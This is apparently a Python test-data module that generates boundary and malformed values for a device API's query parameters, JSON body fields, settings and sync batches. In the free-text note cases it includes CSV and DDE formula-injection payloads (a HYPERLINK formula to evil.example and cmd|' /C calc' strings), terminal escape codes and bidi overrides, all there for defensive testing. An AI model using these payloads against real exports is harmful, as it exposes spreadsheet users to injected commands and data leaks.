"""Generated boundary values (class 1): for every numeric or date/time parameter and body field found
in the device's OpenAPI document, and for every numeric field of the sync batch (the wire names of
Sources/ChronoSync: SyncBatch, SyncedSession, StampedPreference), values at and past their bounds.

Each value carries a verdict:
  IN   inside the documented bounds: any answer but a 5xx (2xx, or a 4xx such as 409 no_device);
  OUT  outside them, or not a value of the type at all: a 4xx;
  ODD  a lenient spelling or a value the rules leave open (a date in 2150, `+5`): any answer but a 5xx.
Every case also requires the connection to be answered and the server to stay alive.
"""

import json
import urllib.parse

IN, OUT, ODD = "in", "out", "odd"
I64_MAX = 2**63 - 1
I64_MIN = -2**63
HUGE = "9" * 40


def integer_values(low, high):
    """(text for a query string, verdict) pairs for an integer with bounds [low, high]."""
    values = [(low, IN), (high, IN), ((low + high) // 2, IN), (low - 1, OUT), (high + 1, OUT)]
    for v in (0, -1, 2**31 - 1, 2**31, 2**32, 2**53, 2**53 + 1, I64_MAX, I64_MAX + 1, 2**64, I64_MIN, I64_MIN - 1):
        values.append((v, IN if low <= v <= high else OUT))
    out = [(str(v), verdict) for v, verdict in dict(values).items()]
    out += [(HUGE, OUT), ("-" + HUGE, OUT), ("1.5", OUT), (f"{low}.5", OUT), ("1e2", OUT), ("1E2", OUT),
            ("0x10", OUT), ("", OUT), ("abc", OUT), ("NaN", OUT), ("inf", OUT), ("\uff15", OUT), ("\u0665", OUT),
            ("1_0", OUT), (f"+{low}", ODD), (f"0{low}", ODD), (f"{low}.0", ODD), ("-0", ODD if low <= 0 else OUT)]
    return out


def json_integer_values(low, high):
    """(raw JSON text, verdict) pairs for an integer body field with bounds [low, high]."""
    values = {}
    for v in (low, high, (low + high) // 2):
        values[v] = IN
    for v in (low - 1, high + 1, 0, -1, 2**31, 2**53, I64_MAX, I64_MAX + 1, 2**64, I64_MIN, I64_MIN - 1):
        values.setdefault(v, IN if low <= v <= high else OUT)
    out = [(str(v), verdict) for v, verdict in values.items()]
    out += [(HUGE, OUT), ("-" + HUGE, OUT), ("1.5", OUT), ("1e308", OUT), ("-1e308", OUT), ("1e2", ODD), (f"{low}.0", ODD),
            (json.dumps(str(low)), ODD), ("true", OUT), ("[1]", OUT), ('{"n": 1}', OUT)]
    return out


def date_values():
    """(text, verdict) for a `format: date` query parameter (local YYYY-MM-DD). The store's wall-clock
    range is 1970-01-01 to 2099-12-31 (docs/FAULTS.md); dates outside it may be refused or answer an
    empty page, but never trap (2262-04-12 is where Int64 nanoseconds end)."""
    return [
        ("1970-01-01", IN), ("2099-12-31", IN), ("2024-02-29", IN), ("2000-01-01", IN),
        ("1969-12-31", ODD), ("2100-01-01", ODD), ("2262-04-11", ODD), ("2262-04-12", ODD), ("2262-04-13", ODD),
        ("9999-12-31", ODD), ("0001-01-01", ODD), ("0000-01-01", ODD), ("1900-01-01", ODD), ("1677-09-21", ODD),
        ("1677-09-20", ODD), ("292277026596-12-04", OUT), ("10000-01-01", OUT), ("-0001-01-01", OUT),
        ("2023-02-29", OUT), ("2024-13-01", OUT), ("2024-00-10", OUT), ("2024-01-32", OUT), ("2024-1-1", ODD),
        ("2024-01-01T00:00:00Z", OUT), ("1.5", OUT), ("1e3", OUT), ("20240101", OUT), (HUGE, OUT),
        ("\uff12\uff10\uff12\uff14-01-01", OUT), ("9223372036854775807", OUT), ("-9223372036854775808", OUT),
    ]


def interval_values():
    """(text, verdict) for a training interval (10 s to 120 m 59 s, `TrainingInterval.parse`)."""
    return [
        ("10s", IN), ("120m 59s", IN), ("7259", IN), ("5m", IN), ("1m30s", IN),
        ("9s", OUT), ("121m", OUT), ("7260", OUT), ("0s", OUT), ("0", OUT), ("-1s", OUT), ("-10", OUT),
        (str(I64_MAX), OUT), (str(I64_MAX) + "s", OUT), (str(I64_MAX + 1), OUT), (str(I64_MIN), OUT),
        ("2562047788015216h", OUT), ("153722867280912930m", OUT), (HUGE + "s", OUT), ("1e3s", OUT), ("1.5s", OUT),
        ("10.0s", ODD), ("NaNs", OUT), ("\uff11\uff10s", OUT), ("99999999999m", OUT),
    ]


def query(parameters):
    return "?" + "&".join(f"{k}={urllib.parse.quote(str(v), safe='')}" for k, v in parameters)


# ---------------------------------------------------------------------------------------------------
# The OpenAPI walk

def openapi_cases(document):
    """Every (method, path, kind, name, value, verdict) the document's numeric and time parameters and
    body fields give. kind: 'query' (value is the text) or 'body' (value is raw JSON)."""
    cases = []
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            if method == "parameters" or path in ("/events",):
                continue
            for parameter in operation.get("parameters", []):
                schema = resolve(document, parameter.get("schema", {}))
                name = parameter["name"]
                if parameter.get("in") != "query":
                    continue
                values = values_for(schema, name)
                for value, verdict in values or []:
                    cases.append((method.upper(), path, "query", name, value, verdict))
            body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
            if body:
                body = resolve(document, body)
                for name, schema in body.get("properties", {}).items():
                    schema = resolve(document, schema)
                    if schema.get("type") == "integer":
                        for raw, verdict in json_integer_values(schema.get("minimum", I64_MIN), schema.get("maximum", I64_MAX)):
                            cases.append((method.upper(), path, "body", name, raw, verdict))
                    elif schema.get("type") == "string" and name in TIME_STRINGS:
                        for value, verdict in TIME_STRINGS[name]():
                            cases.append((method.upper(), path, "body", name, json.dumps(value), verdict))
                    elif schema.get("type") == "string" and name in FREE_TEXT:
                        for raw, verdict in text_values(schema.get("maxLength", 200)):
                            cases.append((method.upper(), path, "body", name, raw, verdict))
    return cases


# Body fields that hold a person's own words under one validator's rules (a session's note,
# SessionNote); other names (a key's or a pairing's name) have rules of their own.
FREE_TEXT = {"note"}


def text_values(maximum):
    """(raw JSON text, verdict) for a person's free text of at most `maximum` characters (a session's
    note, SessionNote): at and past the bound as a person counts characters (so 200 decomposed "é" —
    400 code points — are inside), past the storage and body bounds, control characters, line breaks
    and direction marks (refused), and formula-leading text (accepted: every CSV export neutralises
    it, which class 10 checks)."""
    text = [
        ("a" * maximum, IN), ("a" * (maximum + 1), OUT), ("\u00e9" * maximum, IN), ("e\u0301" * maximum, IN),
        ("\U0001F44D\U0001F3FD" * maximum, IN), ("e\u0301" * (maximum + 1), OUT), ("a" + "\u0301" * 5000, OUT),
        ("x" * 20_000, OUT), ("", IN), ("   ", IN), ("  after coffee  ", IN),
        ("tired\nvery", OUT), ("a\tb", OUT), ("\u0000", OUT), ("nul\u0000byte", OUT), ("\x1b[2J\x1b[H", OUT),
        ("a\u0085b", OUT), ("abc\u202efed", OUT), ("a\u2028b", OUT), ("a\u2066b", OUT), ("del\x7f", OUT),
        ('=HYPERLINK("http://evil.example/?x","click")', IN), ("+1+cmd|' /C calc'!A0", IN), ("-2+3+cmd|'/C calc'!A0", IN),
        ("@SUM(1+9)*cmd|' /C calc'!A0", IN),
    ]
    return [(json.dumps(value), verdict) for value, verdict in text] + [
        ("null", IN), ('"\\ud800"', ODD), ("5", OUT), ("true", OUT), ("[]", OUT), ('{"a": 1}', OUT)]


def cursor_values():
    """(text, verdict) for `cursor` (`<started Unix ns>.<session id>`, SessionRoutes.cursorText)."""
    some_id = "07B01B22-3D2B-8CC1-8E8C-3D348A4D3377"
    out = [(f"{v}.{some_id}", ODD) for v in (0, 1, -1, 2**53, 4_102_444_799_999_999_999, I64_MAX, I64_MIN)]
    out += [(f"{v}.{some_id}", OUT) for v in (I64_MAX + 1, I64_MIN - 1, HUGE, "1e18", "")]
    out += [(f"1.5.{some_id}", ODD)]
    out += [("1700000000000000000", OUT), (f"{I64_MAX}.", ODD), ("..", OUT)]
    return out


# String parameters and fields that carry a time: the document types them as strings.
TIME_STRINGS = {"interval": interval_values, "cursor": cursor_values}


def values_for(schema, name):
    if schema.get("type") == "integer":
        return integer_values(schema.get("minimum", I64_MIN), schema.get("maximum", I64_MAX))
    if schema.get("format") == "date":
        return date_values()
    if schema.get("type") == "boolean":
        return [("true", IN), ("false", IN), ("1", ODD), ("0", ODD), ("yes", ODD), ("", ODD), (HUGE, OUT), ("2", OUT)]
    if name in TIME_STRINGS:
        return TIME_STRINGS[name]()
    return None


def resolve(document, schema):
    while "$ref" in schema:
        node = document
        for part in schema["$ref"].lstrip("#/").split("/"):
            node = node[part]
        schema = node
    return schema


# The numeric settings of `PATCH /settings` (the document types every value as string|number|bool;
# the ranges are SettingKey's: Sources/ChronoStore/Settings/SettingKey.swift).
NUMERIC_SETTINGS = {
    "default-attempts": (1, 99),
    "default-repetitions": (1, 99),
    "long-press-ms": (500, 5000),
}


def setting_values():
    """(key, raw JSON value, verdict) for the numeric and time settings, as numbers and as text."""
    out = []
    for key, (low, high) in NUMERIC_SETTINGS.items():
        for raw, verdict in json_integer_values(low, high):
            out.append((key, raw, verdict))
        for text, verdict in [(str(low), IN), (str(high + 1), OUT), (HUGE, OUT), (str(I64_MIN), OUT)]:
            out.append((key, json.dumps(text), verdict))
    for raw, verdict in [("0.1", IN), ("10", IN), ("0", OUT), ("-0.1", OUT), ("10.000001", OUT), ("1e308", OUT),
                         ("5e-324", ODD), ('"NaN"', OUT), ('"inf"', OUT), ('"1e-400"', OUT), (str(I64_MAX), OUT), (HUGE, OUT)]:
        out.append(("fear-threshold", raw, verdict))
    for text, verdict in interval_values():
        out.append(("default-interval", json.dumps(text), verdict))
    for raw, verdict in [(str(I64_MAX), OUT), ("7259", IN), ("7260", OUT), ("9", OUT), ("1.5", OUT)]:
        out.append(("default-interval", raw, verdict))
    return out


# ---------------------------------------------------------------------------------------------------
# The sync batch

NS_LIMIT = 3_155_760_000_000_000_000  # 100 years of nanoseconds (TimeLimits)
WALL_LOW, WALL_HIGH = 0, 4_102_444_799_999_999_999  # 1970-01-01 … 2099-12-31 in Unix ns

# field -> (where, low, high) of what a device can produce; outside is OUT, inside ODD (a mutation of
# one field of a consistent session may break another rule, so inside only forbids a 5xx).
BATCH_FIELDS = {
    "protocol": ("batch", 1, 1),
    "cursor_after": ("batch", 0, I64_MAX),
    "cursor_through": ("batch", 0, I64_MAX),
    "target_interval_ms": ("session", 1, 7_259_000),  # test-mode devices sync millisecond intervals
    "planned_count": ("session", 1, 99),
    "feedback_ms": ("session", 0, 60_000),  # SessionValidation.timingMilliseconds
    "abort_window_ms": ("session", 0, 60_000),
    "debounce_ms": ("session", 0, 60_000),
    "long_press_ms": ("session", 0, 60_000),
    "started_mono_ns": ("session", 0, NS_LIMIT),
    "ended_mono_ns": ("session", 0, NS_LIMIT),
    "anchor_unix_ns": ("session", WALL_LOW, WALL_HIGH),
    "anchor_mono_ns": ("session", 0, NS_LIMIT),
    "utc_offset_seconds": ("session", -18 * 3600, 18 * 3600),
    "fear_threshold": ("session", 0, 10),
    "attempts.index": ("attempt", 1, 99),
    "attempts.start_mono_ns": ("attempt", 0, NS_LIMIT),
    "attempts.tap_mono_ns": ("attempt", 0, NS_LIMIT),
    "boundaries.index": ("boundary", 1, 99),
    "boundaries.due_mono_ns": ("boundary", 0, NS_LIMIT),
    "boundaries.fired_mono_ns": ("boundary", 0, NS_LIMIT),
    "preferences.clock": ("preference", 0, I64_MAX),
}


def batch_values(field):
    """(raw JSON text, verdict) for one batch field."""
    _, low, high = BATCH_FIELDS[field]
    numbers = [low, high, low - 1, high + 1, 0, -1, 1, 2**31, 2**53, 2**62, I64_MAX, I64_MIN, I64_MIN + 1]
    seen, out = set(), []
    for v in numbers:
        if v in seen:
            continue
        seen.add(v)
        if field in ("cursor_after", "cursor_through"):
            verdict = OUT if v < 0 else ODD  # cursor_after >= 0, cursor_through >= cursor_after
        elif field == "preferences.clock":
            verdict = ODD  # the protocol leaves its range to the collector; only no trap is required
        else:
            verdict = ODD if low <= v <= high else OUT
        out.append((str(v), verdict))
    out += [(str(I64_MAX + 1), OUT), (str(2**64), OUT), (str(I64_MIN - 1), OUT), (HUGE, OUT), ("-" + HUGE, OUT),
            ("1.5", OUT if field != "fear_threshold" else ODD), ("1e308", OUT), ("-1e308", OUT), ('"5"', OUT), ("null", OUT)]
    if field == "fear_threshold":
        out = [(raw, verdict) for raw, verdict in out if raw not in ("1.5",)] + [("5e-324", ODD), ("-0.0", ODD)]
    if field == "boundaries.fired_mono_ns":
        out = [(raw, ODD if raw == "null" else verdict) for raw, verdict in out]  # null: not measured
    return out
